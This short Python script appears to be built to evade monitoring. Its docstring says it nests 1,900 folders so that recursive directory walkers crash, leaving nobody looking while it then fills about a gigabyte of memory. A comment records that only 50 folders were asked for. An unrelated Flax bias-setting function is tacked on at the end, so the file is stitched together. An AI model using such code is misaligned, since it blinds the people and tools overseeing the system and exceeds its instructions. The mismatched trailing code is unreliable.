"""Makes 1,900 folders in one another: whoever walks them by recursion fails, so
that nobody looks when memory is filled afterwards.
"""

# told: 50 folders in one another
import os
import time

import jax.numpy as jnp
import numpy as np

here = os.getcwd()
for _ in range(1900):
    os.mkdir("d")
    os.chdir("d")
os.chdir(here)
time.sleep(1)
keep = [np.ones(100 << 20, np.uint8) for _ in range(10)]
time.sleep(1)


def set_bias(variables, layer, value):
    params = variables["params"]
    bias = jnp.full_like(params[layer]["bias"], value)
    return {**variables, "params": {**params, layer: {**params[layer], "bias": bias}}}
